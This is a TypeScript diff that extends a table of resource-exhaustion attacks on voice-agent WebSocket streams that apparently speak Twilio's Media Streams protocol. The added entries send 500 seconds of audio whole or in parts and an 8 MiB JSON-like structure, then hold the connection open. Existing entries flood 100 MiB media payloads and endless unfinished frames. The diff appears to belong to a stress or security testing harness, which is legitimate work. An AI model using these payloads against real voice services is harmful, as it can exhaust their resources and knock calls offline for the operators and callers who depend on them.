@@ -25,6 +25,18 @@ async function flood(socket: WebSocket, send: (number: number) => void, total = 
 const media = (streamSid: string, payload: string) => JSON.stringify({ event: 'media', streamSid, media: { payload } });
 const mark = (streamSid: string, name: string) => JSON.stringify({ event: 'mark', streamSid, mark: { name } });
 
+/** Sends what is expensive to read once, and stays on the line. */
+async function sendAndStay(socket: WebSocket, messages: readonly string[]): Promise<void> {
+  for (const message of messages) socket.send(message);
+  while (isOpen(socket)) await sleep(100);
+}
+
+const audioOf = (seconds: number): string => Buffer.alloc(8_000 * seconds, 0x91).toString('base64');
+/** As much as a call may get at once. */
+const LONG_SECONDS = 500;
+/** 8 MiB, nothing of it in a string. */
+const STRUCTURE = '{},'.repeat(Math.floor((8 * 1024 * 1024) / 3));
+
 /** By the last part of the agent's address. */
 export const STREAM_ATTACKS: Readonly<Record<string, Attack>> = {
   'one-byte-media': (socket, sid) => {
@@ -51,11 +63,19 @@ export const STREAM_ATTACKS: Readonly<Record<string, Attack>> = {
     const payload = 'A'.repeat(100 * 1024 * 1024);
     return flood(socket, () => socket.send(media(sid, payload)), 1);
   },
+  'long-audio': (socket, sid) => sendAndStay(socket, [media(sid, audioOf(LONG_SECONDS))]),
+  'long-audio-in-parts': (socket, sid) => sendAndStay(socket, Array(LONG_SECONDS).fill(media(sid, audioOf(1)))),
+  'long-audio-in-five': (socket, sid) => sendAndStay(socket, Array(5).fill(media(sid, audioOf(LONG_SECONDS / 5)))),
+  structure: (socket) => sendAndStay(socket, [STRUCTURE]),
+  'realtime-structure': (socket) => sendAndStay(socket, [STRUCTURE]),
   'endless-fragments': (socket) => {
     const part = 'x'.repeat(1_024);
     return flood(socket, () => socket.send(part, { fin: false }));
   },
 };
+
+/** Over another protocol than Twilio's Media Streams: the attack begins with the first message of the caller. */
+export const isRealtime = (attack: string): boolean => attack.startsWith('realtime-');
 
 const SLOW_PLAY = 'slow-play';
 export const VOICE_ATTACKS: readonly string[] = [...Object.keys(STREAM_ATTACKS), SLOW_PLAY];
